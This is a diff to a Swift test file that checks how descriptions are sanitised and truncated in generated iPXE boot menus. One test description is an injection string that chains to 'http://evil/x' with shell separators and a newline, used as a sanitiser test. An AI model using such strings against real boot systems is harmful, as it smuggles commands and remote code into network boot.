@@ -115,6 +115,34 @@ import Testing
         #expect(script == (try Self.golden("menu-mixed-kinds.ipxe")))
     }
 
+    /// Descriptions follow the details on the item's line, sanitised like names and cut to what
+    /// fits beside iPXE's countdown; a name that leaves too little room shows none.
+    @Test func descriptionsFollowTheDetailsAsFarAsTheyFit() throws {
+        var described = Self.linux
+        described.description = "Minimal rescue system"
+        var long = Self.kernelOnly
+        long.description = "A description far longer than the line of an eighty-column menu can hold, so it is cut"
+        var hostile = Self.disk
+        hostile.description = "x && shell ; ${net0/mac} #comment\nchain http://evil/x"
+        var crowded = MenuEntry(id: "00000000000f", name: "A name that takes nearly the whole line of the menu",
+                                description: "never shown", size: 1024, distro: "debian", boot: .linux(commandLine: "", hasInitrd: false))
+        var blank = Self.linux
+        blank.id = "000000000010"
+        blank.description = " \u{200B}\t"
+        let script = IPXEScripts.menuScript([described, long, hostile, crowded, blank],
+                                            options: MenuOptions(title: "Lab boot", timeoutSeconds: 5, defaultChoice: .first),
+                                            sanBaseURL: "http://boot.lab")
+        #expect(script == (try Self.golden("menu-descriptions.ipxe")))
+        let describedItems = script.split(separator: "\n").filter { $0.hasPrefix("item --key") && $0.contains(" - ") }
+        #expect(describedItems.count == 3)
+        for item in describedItems {
+            let text = item.split(separator: " ", maxSplits: 4)[4]
+            #expect(text.count <= 68, "\(text) is wider than iPXE shows beside its countdown")
+        }
+        crowded.description = nil
+        #expect(IPXEScripts.menuScript([crowded], options: MenuOptions()).contains("(linux, 1 KiB, debian)\n"))
+    }
+
     @Test func elevenEntriesWithAnIDAsDefaultAndNoTimeout() throws {
         #expect(IPXEScripts.menuScript(Self.eleven(), options: MenuOptions(title: "Lab boot", timeoutSeconds: 0, defaultChoice: .entry("00000000000b")))
                 == (try Self.golden("menu-eleven-entries.ipxe")))
@@ -240,7 +268,7 @@ import Testing
 
     func entries(_ names: [String], commandLine: (String) -> String = { _ in "quiet" }) -> [MenuEntry] {
         names.enumerated().map { index, name in
-            MenuEntry(id: String(format: "%012x", index), name: name, size: 1000, distro: name,
+            MenuEntry(id: String(format: "%012x", index), name: name, description: name, size: 1000, distro: name,
                       boot: .linux(commandLine: IPXEText.commandLine(commandLine(name)), hasInitrd: true))
         }
     }
